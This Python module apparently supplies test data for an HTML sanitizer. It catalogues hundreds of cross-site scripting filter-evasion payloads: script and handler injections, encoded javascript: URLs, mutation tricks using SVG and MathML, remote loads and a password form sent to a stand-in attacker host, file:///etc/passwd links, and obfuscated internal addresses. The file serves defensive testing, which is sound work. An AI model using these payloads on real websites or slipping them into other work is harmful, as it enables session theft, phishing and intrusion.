"""Ways to get something active past a filter of HTML, by what each one tries.

The sections are those of the OWASP filter-evasion list, and after them what came up since: mutations, SVG and MathML,
clobbering, and what makes browsers fetch without a script.
"""

from itertools import product

RUN = "alert(1)"
FAR = "https://evil.example"
DECIMAL = "".join(f"&#{ord(letter)};" for letter in f"javascript:{RUN}")
PADDED = "".join(f"&#{ord(letter):07}" for letter in f"javascript:{RUN}")
HEXADECIMAL = "".join(f"&#x{ord(letter):X}" for letter in f"javascript:{RUN}")

SCRIPTS = {
    "a script": f"<script>{RUN}</script>",
    "a remote script": f"<SCRIPT SRC={FAR}/x.js></SCRIPT>",
    "a script that says it is a picture": f'<SCRIPT SRC="{FAR}/x.jpg"></SCRIPT>',
    "in all contexts at once": "javascript:/*--></title></style></textarea></script></xmp>"
    "<svg/onload='+/\"`/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
    "a quote out of place": f'<IMG """><SCRIPT>{RUN}</SCRIPT>"\\>',
    "no blank after the name": f'<SCRIPT/XSS SRC="{FAR}/x.js"></SCRIPT>',
    "a slash for a blank": f'<SCRIPT/SRC="{FAR}/x.js"></SCRIPT>',
    "one bracket too many": f"<<SCRIPT>{RUN};//\\<</SCRIPT>",
    "no end": f"<SCRIPT SRC={FAR}/x.js?< B >",
    "no protocol": "<SCRIPT SRC=//evil.example/.j>",
    "an end before it": f"</script><script>{RUN};</script>",
    "the end of a title": f"</TITLE><SCRIPT>{RUN};</SCRIPT>",
    "a script within a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "a bracket within quotes": f'<SCRIPT a=">" SRC="{FAR}/x.js"></SCRIPT>',
    "an attribute without a name": f'<SCRIPT =">" SRC="{FAR}/x.js"></SCRIPT>',
    "empty quotes": f'<SCRIPT a=">" \'\' SRC="{FAR}/x.js"></SCRIPT>',
    "quotes within quotes": f'<SCRIPT "a=\'>\'" SRC="{FAR}/x.js"></SCRIPT>',
    "grave accents": f'<SCRIPT a=`>` SRC="{FAR}/x.js"></SCRIPT>',
    "quotes that do not match": f'<SCRIPT a=">\'>" SRC="{FAR}/x.js"></SCRIPT>',
    "written by a script": f'<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="{FAR}/x.js"></SCRIPT>',
    "a module": f'<script type=module>import "{FAR}/x.js"</script>',
    "a script of SVG": f"<svg><script href={FAR}/x.js></script></svg>",
    "a script's data": f'<script src="data:text/javascript,{RUN}"></script>',
    "a line separator in the name": f"<scr\u2028ipt>{RUN}</script>",
    "a NUL in the name": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "seven bits": f"\u00bcscript\u00be{RUN}\u00bc/script\u00be",
    "UTF-7": '<HEAD><META HTTP-EQUIV="CONTENT-TYPE" CONTENT="text/html; charset=UTF-7"></HEAD>'
    f"+ADw-SCRIPT+AD4-{RUN};+ADw-/SCRIPT+AD4-",
    "wide letters": f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
}
ADDRESSES = {
    "a picture that is a script": f'<IMG SRC="javascript:{RUN};">',
    "no quotes": f"<IMG SRC=javascript:{RUN}>",
    "mixed case": f"<IMG SRC=JaVaScRiPt:{RUN}>",
    "quotes as entities": "<IMG SRC=javascript:alert(&quot;1&quot;)>",
    "grave accents": '<IMG SRC=`javascript:alert("it\'s")`>',
    "without quotes of any kind": "<IMG SRC=javascript:alert(String.fromCharCode(88))>",
    "decimal references": f"<IMG SRC={DECIMAL}>",
    "padded references without their ends": f"<IMG SRC={PADDED}>",
    "hexadecimal references": f"<IMG SRC={HEXADECIMAL}>",
    "a link in references": f'<a href="{DECIMAL}">x</a><a href={HEXADECIMAL}>x</a>',
    "a tab": f'<IMG SRC="jav\tascript:{RUN};"><a href="jav\tascript:{RUN};">x</a>',
    "a tab as an entity": f'<a href="jav&#x09;ascript:{RUN};">x</a>',
    "a tab by its name": f'<a href="jav&Tab;ascript:{RUN};">x</a>',
    "a newline": f'<a href="jav&#x0A;ascript:{RUN};">x</a>',
    "a newline by its name": f'<a href="java&NewLine;script:{RUN};">x</a>',
    "a return": f'<a href="jav&#x0D;ascript:{RUN};">x</a>',
    "a letter a line": '<IMG\nSRC\n=\n"\nj\na\nv\na\ns\nc\nr\ni\np\nt\n:\na\nl\ne\nr\nt\n(\n1\n)\n"\n>',
    "a colon by its name": f'<a href="javascript&colon;{RUN}">x</a>',
    "a NUL": f'<a href="java\0script:{RUN}">x</a><IMG SRC=java\0script:{RUN}>',
    "blanks and controls before it": f'<a href=" &#14;  javascript:{RUN};">x</a>',
    "a control before it": f'<a href="\x01javascript:{RUN}">x</a>',
    "a soft hyphen": f'<a href="java\u00adscript:{RUN}">x</a>',
    "half open": f'<IMG SRC="javascript:{RUN}"',
    "VBScript": "<IMG SRC='vbscript:msgbox(1)'><a href=\"vbscript:msgbox(1)\">x</a>",
    "LiveScript": '<IMG SRC="livescript:[code]"><a href="mocha:[code]">x</a>',
    "a page as data": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a drawing as data": '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "data with a false type": '<img src="data:text/html;image/png;base64,PHN2Zz4=">',
    "data after a picture": '<img src="data:image/png;base64,AAAA,<script>alert(1)</script>">',
    "a blob": f'<a href="blob:{FAR}/x">x</a>',
    "a file": '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
    "the source of a page": '<a href="view-source:javascript:alert(1)">x</a>',
    "a feed": f'<a href="feed:javascript:{RUN}">x</a>',
    "a link that looks harmless": f"<a href=\"javascript:document.location='{FAR}'\">x</a>",
    "no protocol": '<a href="//evil.example">x</a><img src="//evil.example/1.png">',
    "back slashes": '<a href="\\\\evil.example">x</a><img src="\\\\evil.example\\1.png">',
    "a page of ours": '<a href="/logout">x</a><img src="/account/logout/"><img src="?delete=1">',
    "a keyword": '<a href="keyword:x">x</a>',
    "an address that is none": '<a href="http:evil.example">x</a>',
    "a picture that came with the mail, as a link": '<a href="cid:x">x</a>',
    "an entity that is no end": f'<a href="javascript&#0000058;{RUN}">x</a>',
    "an expression of an old browser": f'<BR SIZE="&{{{RUN}}}">',
    "a picture in pieces": f'<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:{RUN}"></B></I></XML>'
    '<SPAN DATASRC="#xss" DATAFLD="B" DATAFORMATAS="HTML"></SPAN>',
}
HANDLERS = {
    "on a link": f'<a onmouseover="{RUN}">x</a><a onmouseover={RUN}>x</a>',
    "on a picture from nowhere": f'<IMG SRC=# onmouseover="{RUN}">',
    "on a picture with nothing": f'<IMG SRC= onmouseover="{RUN}"><IMG onmouseover="{RUN}">',
    "when a picture fails": f'<IMG SRC=/ onerror="{RUN}"></img>',
    "in references": f'<img src=x onerror="{PADDED}">',
    "in Base64": "<img onload=\"eval(atob('YWxlcnQoMSk='))\">",
    "on a drawing": f"<svg/onload={RUN}><svg onload={RUN}></svg>",
    "on the page": f"<BODY ONLOAD={RUN}>",
    "with signs after its name": f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={RUN}>",
    "with a slash before it": f"<img/src=x/onerror={RUN}>",
    "with a vertical tab": f"<img src=x\x0bonerror={RUN}>",
    "with a form feed": f"<img src=x\x0conerror={RUN}>",
    "twice": f"<img src=x onerror={RUN} onerror={RUN}>",
    "in capitals": f"<IMG SRC=X ONERROR={RUN}>",
    "on something unknown": f"<xss onclick={RUN} tabindex=1 autofocus onfocus={RUN}>x</xss>",
    "when it is opened": f"<details open ontoggle={RUN}>x</details>",
    "when an animation ends": f'<p style="animation:x" onanimationend={RUN}>x</p>',
    "on a pointer": f"<p onpointerrawupdate={RUN} onpointerenter={RUN}>x</p>",
    "before something matches": f"<p onbeforematch={RUN} hidden=until-found>x</p>",
    "behind a greater-than": f'<p title="a>b" onclick={RUN}>x</p>',
    "behind a false end": f"<p title='</p><img src=x onerror={RUN}>'>x</p>",
}
STYLES = {
    "a sheet that is a script": f'<LINK REL="stylesheet" HREF="javascript:{RUN};">',
    "a remote sheet": f'<LINK REL="stylesheet" HREF="{FAR}/x.css">',
    "an import": f"<STYLE>@import'{FAR}/x.css';</STYLE>",
    "a sheet in a header": f'<META HTTP-EQUIV="Link" Content="<{FAR}/x.css>; REL=stylesheet">',
    "a binding": f'<STYLE>BODY{{-moz-binding:url("{FAR}/x.xml#x")}}</STYLE>',
    "an import in pieces": f"<STYLE>@im\\port'\\ja\\vasc\\ript:{RUN}';</STYLE>",
    "bullets": f'<STYLE>li {{list-style-image: url("javascript:{RUN}");}}</STYLE><UL><LI>x</br>',
    "an expression in pieces": f'<IMG STYLE="xss:expr/*XSS*/ession({RUN})">',
    "an expression in comments": f"exp/*<A STYLE='no\\xss:noxss(\"*//*\");xss:ex/*XSS*//*/*/pression({RUN})'>",
    "a sheet of script": f'<STYLE TYPE="text/javascript">{RUN};</STYLE>',
    "a background": f'<STYLE>.XSS{{background-image:url("javascript:{RUN}");}}</STYLE><A CLASS=XSS></A>',
    "the page's background": f'<STYLE type="text/css">BODY{{background:url("javascript:{RUN}")}}</STYLE>',
    "something unknown": f'<XSS STYLE="xss:expression({RUN})"><XSS STYLE="behavior: url(xss.htc);">',
    "a background of a block": f'<DIV STYLE="background-image: url({FAR}/1.png)">x</DIV>',
    "a background in code points": "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a'\\0029\">x</DIV>",
    "a background with a control": f'<DIV STYLE="background-image: url(\x01javascript:{RUN})">x</DIV>',
    "an expression of a block": f'<DIV STYLE="width: expression({RUN});">x</DIV>',
    "over the whole page": '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    "a font": f"<style>@font-face{{font-family:x;src:url({FAR}/x.woff)}}</style><p style='font-family:x'>x</p>",
    "a sheet of SVG": "<svg><style><img src=x onerror=alert(1)></style></svg>",
}
FRAMES = {
    "a frame that is a script": f'<IFRAME SRC="javascript:{RUN};"></IFRAME>',
    "a frame of text": f'<IFRAME SRCDOC="<script>{RUN}</script>"></IFRAME>',
    "a frame with a handler": f'<IFRAME SRC=# onmouseover="{RUN}"></IFRAME>',
    "a frame half open": f"<iframe src={FAR}/x.html <",
    "a set of frames": f'<FRAMESET><FRAME SRC="javascript:{RUN};"></FRAMESET>',
    "a portal": f"<portal src={FAR}></portal><fencedframe src={FAR}></fencedframe>",
    "an object": f'<OBJECT TYPE="text/x-scriptlet" DATA="{FAR}/x.html"></OBJECT>',
    "an applet": f'<APPLET CODE=x CODEBASE="{FAR}"></APPLET>',
    "a film": f'<EMBED SRC="{FAR}/x.swf" AllowScriptAccess="always"></EMBED>',
    "a drawing": '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">',
    "a background of a page": f'<BODY BACKGROUND="javascript:{RUN}">',
    "a background of a table": f'<TABLE BACKGROUND="{FAR}/1.png"><TD BACKGROUND="javascript:{RUN}">x',
    "other sources of a picture": f'<IMG DYNSRC="javascript:{RUN}"><IMG LOWSRC="javascript:{RUN}">',
    "a set of pictures": f'<img srcset="{FAR}/1.png 1x"><picture><source srcset={FAR}/2.png></picture>',
    "a sound": f'<BGSOUND SRC="javascript:{RUN};">',
    "a refresh": f'<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:{RUN};">',
    "a refresh with data": '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD4=">',
    "a refresh with a second address": f'<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:{RUN};">',
    "a cookie": f'<META HTTP-EQUIV="Set-Cookie" Content="USERID=<SCRIPT>{RUN}</SCRIPT>">',
    "a policy": '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "another beginning of addresses": f'<BASE HREF="javascript:{RUN};//">',
    "a comment for one browser": f"<!--[if gte IE 4]><SCRIPT>{RUN};</SCRIPT><![endif]-->",
    "a comment for a server": "<!--#exec cmd=\"echo '<SCR'\"--><!--#exec cmd=\"echo 'IPT>alert(1)</SCRIPT>'\"-->",
    "code for a server": "<? echo('<SCR)'; echo('IPT>alert(1)</SCRIPT>'); ?>",
    "an island of XML": '<XML SRC="x.xml" ID=I></XML><SPAN DATASRC=#I DATAFLD=C DATAFORMATAS=HTML></SPAN>',
    "time in XML": '<HTML><BODY><?xml:namespace prefix="t" ns="urn:schemas-microsoft-com:time">'
    f'<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>{RUN}</SCRIPT>"></BODY></HTML>',
    "a film with sound": f'<video src="{FAR}/v.mp4" autoplay poster={FAR}/1.png></video><audio src=x onerror={RUN}>',
    "a track": f"<video><source onerror={RUN}><track src={FAR}/x.vtt default></video>",
    "what is fetched ahead": f'<link rel=prefetch href={FAR}><link rel=dns-prefetch href="//evil.example">',
    "a manifest": f'<html manifest="{FAR}/x"><link rel=manifest href={FAR}/x>',
}
FORMS = {
    "a picture to press": f'<INPUT TYPE="IMAGE" SRC="javascript:{RUN};">',
    "a sign-in": f'<form action="{FAR}"><input type=password name=p><button>Log in</button></form>',
    "a button of another form": f'<button form=editor formaction="javascript:{RUN}">x</button>',
    "what is focused at once": f"<input autofocus onfocus={RUN}><select autofocus onfocus={RUN}></select>",
    "an old search": f"<isindex type=image src=1 onerror={RUN}><isindex action=javascript:{RUN}>",
    "a key": f"<keygen autofocus onfocus={RUN}>",
    "a place that is told": f'<a href="https://ok.example" ping="{FAR}" target=_top download>x</a>',
    "names of ours": '<p class="menu" id="logout" name="x">x</p><img name=body><a id=editor name=editor>x</a>',
    "a dialog": f"<dialog open onclose={RUN}>x</dialog>",
    "a popover": f"<p popover onbeforetoggle={RUN}>x</p><button popovertarget=x>x</button>",
    "htmx": f'<p hx-get="{FAR}" hx-trigger=load hx-on:load="{RUN}" data-hx-post=/x>x</p>',
    "what our page does": "<p data-open=keys data-key=c data-command data-go=i>x</p>",
    "a place to write": "<p contenteditable accesskey=c tabindex=1>x</p>",
    "a map": f'<map name=x><area href="javascript:{RUN}" shape=default></map><img usemap=#x>',
}
MUTATIONS = {
    "a paragraph within": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "text to write in": "<textarea><img src=x onerror=alert(1)></textarea>",
    "what was not read": "<xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
    "a template": "<template><img src=x onerror=alert(1)></template>",
    "a template with a shadow": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "MathML in a table": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "MathML that is closed": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "a form within a form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "SVG in a paragraph": "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "foreign content": "<svg><foreignObject><p><script>alert(1)</script></p></foreignObject></svg>",
    "a title of SVG": "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "an animation": "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "an animated link": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>x</text></a></svg>',
    "a use": '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"></use></svg>',
    "a link of XLink": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>',
    "a link of MathML": f'<math href="javascript:{RUN}">x</math>'
    f'<math><maction actiontype="statusline" xlink:href="javascript:{RUN}">x',
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><img src=x onerror=alert(1)>]]>",
    "a comment that ends early": "<!--><img src=x onerror=alert(1)>--><!-- --!><img src=x onerror=alert(1)>-->",
    "a declaration": "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "an instruction": "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "a select": "<select><style></select><img src=x onerror=alert(1)></style>",
    "a listing": "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "nothing but text twice": "&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;",
    "deep within": "<b>" * 300 + "<img src=x onerror=alert(1)>",
}  # fmt: skip
HOSTS = {
    "numbers": '<img src="https://66.102.7.147/1.png">',
    "a number": '<img src="https://1113982867/1.png">',
    "hexadecimal numbers": '<img src="https://0x42.0x0000066.0x7.0x93/1.png">',
    "octal numbers": '<img src="https://0102.0146.0007.00000223/1.png">',
    "mixed numbers": '<img src="h\ntt\tps://6\t6.000146.0x7.147/1.png">',
    "numbers of IPv6": '<img src="https://[::1]/1.png"><img src="https://[::ffff:10.0.0.1]/1.png">',
    "wide numbers": '<img src="https://\uff11\uff12\uff17.\uff10.\uff10.\uff11/1.png">',
    "escapes": '<img src="https://%31%32%37%2e%30%2e%30%2e%31/1.png">',
    "this computer": '<img src="https://localhost/1.png"><img src="https://x.localhost./1.png">',
    "the office": '<img src="https://printer/1.png"><img src="https://nas.local/1.png"><img src="https://a.internal/">',
    "a name before it": '<img src="https://ok.example@10.0.0.1/1.png"><img src="https://ok.example:x@desk.example/">',
    "a back slash": '<img src="https://10.0.0.1\\@ok.example/1.png"><img src="https://ok.example\\@10.0.0.1/1.png">',
    "three slashes": '<img src="https:///10.0.0.1/1.png"><img src="https:10.0.0.1/1.png">',
    "another port": '<img src="https://ok.example:8443/1.png"><img src="http://ok.example:25/1.png">',
    "ours": '<img src="https://desk.example/account/logout/"><img src="https://DESK.example./x">',
    "no host": '<img src="https://"><img src="https://?x"><img src="https://./x">',
}
"""Places that a picture must not make a browser ask even where pictures were asked for."""

ESCAPES = [
    "%3Cscript>",
    "\\x3cscript>",
    "\\u003cscript>",
    "&ltscript>",
    "&LT;script>",
    *(
        f"&{sign}{'0' * zeros}{number}{end}script>{RUN}"
        for (sign, number), zeros, end in product(
            (("#", "60"), ("#x", "3c"), ("#x", "3C"), ("#X", "3c"), ("#X", "3C")), range(6), ("", ";")
        )
    ),
]
"""All the ways to write a less-than that HTML and scripts know."""

EVENTS = """
abort activate afterprint afterupdate animationcancel animationend animationiteration animationstart auxclick
beforeactivate beforecopy beforecut beforedeactivate beforeeditfocus beforeinput beforematch beforepaste beforeprint
beforetoggle beforeunload beforeupdate begin blur bounce cancel canplay canplaythrough cellchange change click close
contentvisibilityautostatechange contextmenu controlselect copy cuechange cut dataavailable datasetchanged
datasetcomplete dblclick deactivate drag dragdrop dragend dragenter dragleave dragover dragstart drop durationchange
emptied end ended error errorupdate filterchange finish focus focusin focusout formdata fullscreenchange
gotpointercapture hashchange help input invalid keydown keypress keyup languagechange layoutcomplete load loadeddata
loadedmetadata loadstart losecapture lostpointercapture mediacomplete mediaerror message messageerror mousedown
mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel move moveend movestart offline online outofsync
pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout
pointerover pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange redo
rejectionhandled repeat reset resize resizeend resizestart resume reverse rowdelete rowexit rowinserted rowsenter scroll
scrollend securitypolicyviolation seek seeked seeking select selectionchange selectstart show slotchange stalled start
stop storage submit suspend syncrestored timeerror timeupdate toggle touchcancel touchend touchmove touchstart
trackchange transitioncancel transitionend transitionrun transitionstart undo unhandledrejection unload urlflip
volumechange waiting webkitanimationend webkitmouseforcechanged webkittransitionend wheel
"""
"""The events that some browser knows or knew, with blanks between."""

SECTIONS = {
    "scripts": SCRIPTS,
    "addresses": ADDRESSES,
    "handlers": HANDLERS,
    "styles": STYLES,
    "frames": FRAMES,
    "forms": FORMS,
    "mutations": MUTATIONS,
}
EVASIONS = [vector for section in SECTIONS.values() for vector in section.values()]
"""All that must leave nothing active, whatever was asked for."""
